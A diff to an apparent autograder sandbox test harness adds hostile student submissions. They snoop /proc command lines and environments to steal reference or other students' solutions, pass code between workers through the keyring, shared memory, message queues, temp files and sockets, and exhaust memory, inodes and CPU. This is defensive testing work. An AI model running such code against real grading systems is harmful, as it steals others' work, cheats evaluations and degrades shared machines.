@@ -91,6 +91,24 @@ HOSTILE_KINDS = [
             r"symbolic link"),
     Hostile("zip_bomb", "a .zip entry of 300 MiB of zeros", "rejected", r"zip bomb"),
     Hostile("invalid_notebook", "a notebook that is not JSON", "notebook_dropped", r"is not valid JSON"),
+    # Issue 12, finding 1: the rlimits fallback showed the trusted processes'
+    # command lines and a world-readable source tree.
+    Hostile("proc_snoop", "blank code that reads every command line in /proc, follows the paths it finds "
+            "(--reference-root, --submission, --log, ...) and runs the reference or another student's "
+            "kNN module if it can read one", "knn_zero", r"HOSTILE_BLANK"),
+    # Finding 2: per-uid kernel state outlived the worker.
+    Hostile("state_plant", "correct code that also leaves its kNN source in the kernel keyring, SysV "
+            "shared memory, a POSIX message queue, files in /tmp, /var/tmp and /dev/shm and on an "
+            "abstract unix socket", "same_as_good", ""),
+    Hostile("state_steal", "blank code that looks for state_plant's source in those places for 8 s "
+            "and runs it if found", "knn_zero", r"HOSTILE_BLANK"),
+    # Finding 3: limits per process, memory that is not mapped, no inode limit, no CPU share.
+    Hostile("children_memory", "three children touch 1.5 GiB each at the same time (4.5 GiB; "
+            "the worker's limit is 4 GiB)", "same_as_good", ""),
+    Hostile("memfd_hoard", "a child writes 72 memfds of 64 MiB (4.5 GiB, never mapped)", "same_as_good", ""),
+    Hostile("tmp_inodes", "creates 250,000 empty files in its temporary folder", "same_as_good", ""),
+    Hostile("spinners", "eight setsid children spin for 3 s; it measures the cores they got",
+            "same_as_good", ""),
 ]
 
 KINDS = {hostile.kind: hostile for hostile in HOSTILE_KINDS}
@@ -166,18 +184,37 @@ def _hostile_replace_all(make):
             for attribute, member in list(vars(value).items()):
                 if inspect.isfunction(member) and not attribute.startswith("_"):
                     setattr(value, attribute, make(member))
+
+def _hostile_before_each_call(check):
+    # check() runs before every public method is looked up and every public function is
+    # called, while the methods stay the class body's own: the suites check that the
+    # method that runs is the one the class body defines, and an attack that is
+    # contained must not lose points for how this harness reaches its methods.
+    import functools, inspect
+    namespace = globals()
+    for name, value in list(namespace.items()):
+        if name.startswith("_") or getattr(value, "__module__", None) != __name__:
+            continue
+        if inspect.isfunction(value):
+            def checked(*args, _original=value, **kwargs):
+                check()
+                return _original(*args, **kwargs)
+            namespace[name] = functools.wraps(value)(checked)
+        elif inspect.isclass(value):
+            def __getattribute__(self, attribute, _base=value.__getattribute__):
+                if not attribute.startswith("_") and inspect.isfunction(getattr(type(self), attribute, None)):
+                    check()
+                return _base(self, attribute)
+            value.__getattribute__ = __getattribute__
 '''
 
 # Attacks that succeed make every method raise, so a leak costs the kNN points.
 _RAISE_IF_LEAKED = '''
-def _hostile_guard(original):
-    def guarded(*args, **kwargs):
-        if _HOSTILE_LEAKS:
-            raise RuntimeError("HOSTILE attack succeeded, LEAKED: " + "; ".join(_HOSTILE_LEAKS[:5]))
-        return original(*args, **kwargs)
-    return guarded
+def _hostile_guard():
+    if _HOSTILE_LEAKS:
+        raise RuntimeError("HOSTILE attack succeeded, LEAKED: " + "; ".join(_HOSTILE_LEAKS[:5]))
 
-_hostile_replace_all(_hostile_guard)
+_hostile_before_each_call(_hostile_guard)
 '''
 
 _ATTACKS = {
@@ -442,30 +479,403 @@ def _hostile_fork_bomb():
 _HOSTILE_LEAKS = _hostile_fork_bomb()
 ''',
     "print_flood": '''
-def _hostile_flood(original):
-    def floods(*args, **kwargs):
-        import sys
-        if not _HOSTILE_FLOODED:
-            _HOSTILE_FLOODED.append(True)
-            chunk = "x" * 2**20
-            for _ in range(1024):
-                sys.stdout.write(chunk)
-            sys.stdout.flush()
-        return original(*args, **kwargs)
-    return floods
+def _hostile_flood():
+    import sys
+    if not _HOSTILE_FLOODED:
+        _HOSTILE_FLOODED.append(True)
+        chunk = "x" * 2**20
+        for _ in range(1024):
+            sys.stdout.write(chunk)
+        sys.stdout.flush()
 
 _HOSTILE_FLOODED = []
-_hostile_replace_all(_hostile_flood)
+_hostile_before_each_call(_hostile_flood)
 ''',
 }
 
+# Blank code (every method raises NotImplementedError), unless the attack
+# stole a kNN module's source into _HOSTILE_STOLEN: then the stolen class's
+# functions run instead, and earn the points the attack is after. Whatever else
+# it found (suite source, logs) goes into the message, which reaches the feedback.
+_BLANK_UNLESS_STOLEN = r'''
+def _hostile_stolen_function(qualname):
+    if not _HOSTILE_STOLEN_NAMESPACE:
+        namespace = {"__name__": "_hostile_stolen"}
+        exec(compile(_HOSTILE_STOLEN[0], "stolen", "exec"), namespace)
+        _HOSTILE_STOLEN_NAMESPACE.append(namespace)
+    found = _HOSTILE_STOLEN_NAMESPACE[0]
+    for part in qualname.split("."):
+        found = found[part] if isinstance(found, dict) else vars(found)[part]
+    return found
+
+def _hostile_blank(original):
+    qualname = original.__qualname__
+    def blank(*args, **kwargs):
+        if _HOSTILE_STOLEN:
+            return _hostile_stolen_function(qualname)(*args, **kwargs)
+        found = "; LEAKED: " + " | ".join(_HOSTILE_FOUND[:3]) if _HOSTILE_FOUND else ""
+        raise NotImplementedError("HOSTILE_BLANK: nothing to steal" + found)
+    return blank
+
+_HOSTILE_STOLEN_NAMESPACE = []
+_hostile_replace_all(_hostile_blank)
+'''
+
+_ATTACKS.update({
+    "proc_snoop": r'''
+def _hostile_snoop():
+    import os
+    stolen, found, paths = [], [], set()
+    try:
+        pids = [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]
+    except OSError:
+        pids = []
+    for pid in pids:
+        for name in ("cmdline", "environ"):
+            try:
+                with open(f"/proc/{pid}/{name}", "rb") as f:
+                    words = f.read().decode(errors="replace").split("\0")
+            except OSError:
+                continue
+            if any(mark in word for word in words for mark in ("pytest", "grade-one", "-root")):
+                found.append(f"/proc/{pid}/{name} of the grader")
+            for word in words:
+                for piece in word.replace("=", "\0").replace(":", "\0").split("\0"):
+                    if piece.startswith("/"):
+                        paths.add(piece.rstrip("/"))
+    knn = "cs231n/classifiers/k_nearest_neighbor.py"
+    candidates = set()
+    for path in paths:
+        while path not in ("", "/"):
+            for tail in ("", "source", "reference"):
+                candidates.add(os.path.join(path, tail, knn))
+            path = os.path.dirname(path)
+    mine = os.path.realpath(os.path.join(os.path.dirname(os.path.abspath(__file__)), "k_nearest_neighbor.py"))
+    for candidate in sorted(candidates):
+        try:
+            if os.path.realpath(candidate) == mine:
+                continue
+            with open(candidate) as f:
+                text = f.read()
+        except OSError:
+            continue
+        if "HOSTILE" not in text and "NotImplementedError" not in text:
+            stolen.append(text)
+            found.append(candidate)
+    for path in sorted(paths):
+        if path.endswith((".log", ".jsonl")) or "suites" in path:
+            try:
+                with open(path) as f:
+                    found.append(path + ": " + f.read(80))
+            except OSError:
+                pass
+    return stolen[:1], found
+
+_HOSTILE_STOLEN, _HOSTILE_FOUND = _hostile_snoop()
+''',
+    "state_plant": r'''
+_HOSTILE_STATE_NAME = "ag_hostile_state"
+_HOSTILE_SHM_KEY = 0x41470001
+
+def _hostile_plant():
+    import ctypes, os, socket
+    source = open(__file__, "rb").read()
+    libc = ctypes.CDLL(None, use_errno=True)
+    try:   # the user keyring, readable by every uid, for 10 minutes
+        key = libc.syscall(248, b"user", _HOSTILE_STATE_NAME.encode(), source, len(source), -4)
+        if key > 0:
+            libc.syscall(250, 5, key, 0x3F3F3F3F)   # KEYCTL_SETPERM
+            libc.syscall(250, 15, key, 600)         # KEYCTL_SET_TIMEOUT
+    except Exception:
+        pass
+    try:   # SysV shared memory, mode 0666: length, then the source
+        libc.shmat.restype = ctypes.c_void_p
+        shmid = libc.shmget(_HOSTILE_SHM_KEY, 1 << 16, 0o1666)
+        if shmid >= 0:
+            address = libc.shmat(shmid, None, 0)
+            if address not in (None, ctypes.c_void_p(-1).value):
+                payload = len(source).to_bytes(4, "little") + source
+                ctypes.memmove(address, payload, len(payload))
+                libc.shmdt(ctypes.c_void_p(address))
+    except Exception:
+        pass
+    try:   # a POSIX message queue, mode 0666, in chunks
+        mqd = libc.mq_open(b"/" + _HOSTILE_STATE_NAME.encode(), os.O_CREAT | os.O_WRONLY | os.O_NONBLOCK, 0o666, None)
+        if mqd >= 0:
+            for start in range(0, len(source), 4096):
+                libc.mq_send(mqd, source[start:start + 4096], len(source[start:start + 4096]), 0)
+    except Exception:
+        pass
+    for folder in ("/tmp", "/var/tmp", "/dev/shm"):
+        try:
+            path = os.path.join(folder, _HOSTILE_STATE_NAME)
+            with open(path, "wb") as f:
+                f.write(source)
+            os.chmod(path, 0o644)
+        except OSError:
+            pass
+    try:   # a daemon serving the source on an abstract unix socket
+        server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+        server.bind("\0" + _HOSTILE_STATE_NAME)
+        server.listen(8)
+        if os.fork() == 0:
+            os.setsid()
+            while True:
+                connection, _ = server.accept()
+                connection.sendall(source)
+                connection.close()
+        server.close()
+    except OSError:
+        pass
+
+if "__file__" in globals():   # not when a stealer runs this source again
+    _hostile_plant()
+''',
+    "state_steal": r'''
+_HOSTILE_STATE_NAME = "ag_hostile_state"
+_HOSTILE_SHM_KEY = 0x41470001
+
+def _hostile_steal_once():
+    import ctypes, os, socket
+    libc = ctypes.CDLL(None, use_errno=True)
+    try:
+        with open("/proc/keys") as f:
+            for line in f:
+                if _HOSTILE_STATE_NAME in line:
+                    buffer = ctypes.create_string_buffer(1 << 16)
+                    size = libc.syscall(250, 11, int(line.split()[0], 16), buffer, len(buffer))   # KEYCTL_READ
+                    if size > 0:
+                        return buffer.raw[:size], "the keyring"
+    except (OSError, ValueError):
+        pass
+    try:
+        libc.shmat.restype = ctypes.c_void_p
+        shmid = libc.shmget(_HOSTILE_SHM_KEY, 0, 0)
+        if shmid >= 0:
+            address = libc.shmat(shmid, None, 0o10000)   # SHM_RDONLY
+            if address not in (None, ctypes.c_void_p(-1).value):
+                size = int.from_bytes(ctypes.string_at(address, 4), "little")
+                return ctypes.string_at(address + 4, size), "SysV shared memory"
+    except Exception:
+        pass
+    try:
+        mqd = libc.mq_open(b"/" + _HOSTILE_STATE_NAME.encode(), os.O_RDONLY | os.O_NONBLOCK)
+        if mqd >= 0:
+            chunks, buffer = [], ctypes.create_string_buffer(1 << 16)
+            while True:
+                size = libc.mq_receive(mqd, buffer, len(buffer), None)
+                if size <= 0:
+                    break
+                chunks.append(buffer.raw[:size])
+            if chunks:
+                return b"".join(chunks), "a POSIX message queue"
+    except Exception:
+        pass
+    for folder in ("/tmp", "/var/tmp", "/dev/shm"):
+        try:
+            with open(os.path.join(folder, _HOSTILE_STATE_NAME), "rb") as f:
+                return f.read(), folder
+        except OSError:
+            pass
+    try:
+        client = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+        client.settimeout(1.0)
+        client.connect("\0" + _HOSTILE_STATE_NAME)
+        chunks = []
+        while True:
+            chunk = client.recv(1 << 16)
+            if not chunk:
+                break
+            chunks.append(chunk)
+        client.close()
+        if chunks:
+            return b"".join(chunks), "an abstract unix socket"
+    except OSError:
+        pass
+    return None, None
+
+def _hostile_steal(seconds=8.0):
+    import time
+    end = time.monotonic() + seconds
+    while time.monotonic() < end:
+        source, channel = _hostile_steal_once()
+        if source and b"_hostile_plant" in source:
+            return [source.decode()], ["stolen through " + channel]
+        time.sleep(0.2)
+    return [], []
+
+_HOSTILE_STOLEN, _HOSTILE_FOUND = _hostile_steal()
+''',
+    "children_memory": r'''
+def _hostile_children_memory(children=3, each=3 * 2**29):
+    import mmap, os, time
+    readers = []
+    for _ in range(children):
+        read_end, write_end = os.pipe()
+        pid = os.fork()
+        if pid == 0:
+            try:
+                with open("/proc/self/oom_score_adj", "w") as f:
+                    f.write("1000")   # if something must die for memory, let it be this child
+                memory, chunk = mmap.mmap(-1, each), b"\1" * (1 << 26)
+                for start in range(0, each, len(chunk)):
+                    memory[start:start + len(chunk)] = chunk
+                time.sleep(3)   # holding it: says so only if it was not killed for another's
+                os.write(write_end, b"1")
+            finally:
+                os._exit(0)
+        os.close(write_end)
+        readers.append((pid, read_end))
+    holding = 0
+    for pid, read_end in readers:
+        holding += os.read(read_end, 1) == b"1"
+        os.close(read_end)
+    for pid, _ in readers:
+        os.waitpid(pid, 0)
+    return [f"{children} children held {children * each / 2**30:g} GiB at once"] if holding == children else []
+
+_hostile_in_background(_hostile_children_memory)
+''',
+    "memfd_hoard": r'''
+def _hostile_memfd_hoard(count=72, each=1 << 26):
+    import os
+    read_end, write_end = os.pipe()
+    pid = os.fork()
+    if pid == 0:
+        try:
+            with open("/proc/self/oom_score_adj", "w") as f:
+                f.write("1000")
+            chunk, held = b"\1" * (1 << 20), []
+            for _ in range(count):
+                fd = os.memfd_create("hoard")
+                for _ in range(each // len(chunk)):
+                    os.write(fd, chunk)
+                held.append(fd)
+                os.write(write_end, b"1")
+        finally:
+            os._exit(0)
+    os.close(write_end)
+    written = 0
+    while True:
+        data = os.read(read_end, 4096)
+        if not data:
+            break
+        written += len(data)
+    os.close(read_end)
+    os.waitpid(pid, 0)
+    return [f"held {written * each / 2**30:g} GiB in memfds"] if written == count else []
+
+_hostile_in_background(_hostile_memfd_hoard)
+''',
+    "tmp_inodes": r'''
+def _hostile_tmp_inodes(count=250_000):
+    import os, tempfile
+    folder = tempfile.mkdtemp()
+    for i in range(count):
+        try:
+            os.close(os.open(os.path.join(folder, str(i)), os.O_CREAT | os.O_WRONLY, 0o600))
+        except OSError:
+            return []
+    return [f"created {count} files in {folder}"]
+
+_hostile_in_background(_hostile_tmp_inodes)
+''',
+    "spinners": r'''
+def _hostile_spinners(count=8, seconds=3.0):
+    import os, time
+    read_end, write_end = os.pipe()
+    started, pids = time.monotonic(), []
+    for _ in range(count):
+        pid = os.fork()
+        if pid == 0:
+            try:
+                os.setsid()
+                end = time.monotonic() + seconds
+                while time.monotonic() < end:
+                    pass
+                os.write(write_end, f"{time.process_time():.3f}\n".encode())
+            finally:
+                os._exit(0)
+        pids.append(pid)
+    os.close(write_end)
+    report = b""
+    while True:
+        data = os.read(read_end, 4096)
+        if not data:
+            break
+        report += data
+    os.close(read_end)
+    for pid in pids:
+        os.waitpid(pid, 0)
+    cores = sum(float(x) for x in report.split()) / (time.monotonic() - started)
+    # The quota is 1 core (threads=1); more than that needs a core the quota
+    # did not give (which a loaded machine may not have to give either).
+    return [f"{count} spinners got {cores:.2f} cores"] if cores > 1.1 else []
+
+_hostile_in_background(_hostile_spinners)
+''',
+})
+
+# Resource attacks take longer than one call may (writing 4.5 GiB takes 15-25 s
+# on the shared 2-core machine): they run in a child started at import, and every
+# call waits up to 15 s for its verdict (a list of leaks) before running, until
+# one has come. So the attack spreads over calls, each within its timeout, and
+# the module raises "LEAKED" on every call once the attack says it worked.
+_IN_BACKGROUND = r'''
+def _hostile_in_background(attack):
+    import json, os
+    read_end, write_end = os.pipe()
+    pid = os.fork()
+    if pid == 0:
+        try:
+            os.close(read_end)
+            leaks = attack()
+            os.write(write_end, json.dumps(leaks).encode())
+        finally:
+            os._exit(0)
+    os.close(write_end)
+    _HOSTILE_BACKGROUND.append((pid, read_end))
+
+def _hostile_verdict(wait_s=15.0):
+    import json, os, select
+    if _HOSTILE_VERDICT or not _HOSTILE_BACKGROUND:
+        return _HOSTILE_VERDICT[0] if _HOSTILE_VERDICT else []
+    pid, read_end = _HOSTILE_BACKGROUND[0]
+    if not select.select([read_end], [], [], wait_s)[0]:
+        return []   # not yet: the next call waits again
+    data = b""
+    while True:
+        chunk = os.read(read_end, 65536)
+        if not chunk:
+            break
+        data += chunk
+    os.close(read_end)
+    os.waitpid(pid, 0)
+    _HOSTILE_VERDICT.append(json.loads(data) if data else ["the attack died without a verdict"])
+    return _HOSTILE_VERDICT[0]
+
+def _hostile_guard():
+    leaks = _hostile_verdict()
+    if leaks:
+        raise RuntimeError("HOSTILE attack succeeded, LEAKED: " + "; ".join(leaks[:5]))
+
+_HOSTILE_BACKGROUND, _HOSTILE_VERDICT = [], []
+'''
+
 _LEAK_CHECKED = {"read_hidden_tests", "write_outside", "network", "background_process", "fork_bomb"}
+_BACKGROUND = {"children_memory", "memfd_hoard", "tmp_inodes", "spinners"}
+_STEALING = {"proc_snoop", "state_steal"}
 
 
 def _appended_block(kind):
-    block = _REPLACE_ALL.format(kind=kind) + _ATTACKS[kind]
+    block = _REPLACE_ALL.format(kind=kind)
+    if kind in _BACKGROUND:
+        return block + _IN_BACKGROUND + _ATTACKS[kind] + "\n_hostile_before_each_call(_hostile_guard)\n"
+    block += _ATTACKS[kind]
     if kind in _LEAK_CHECKED:
         block += _RAISE_IF_LEAKED
+    if kind in _STEALING:
+        block += _BLANK_UNLESS_STOLEN
     return block
 
 
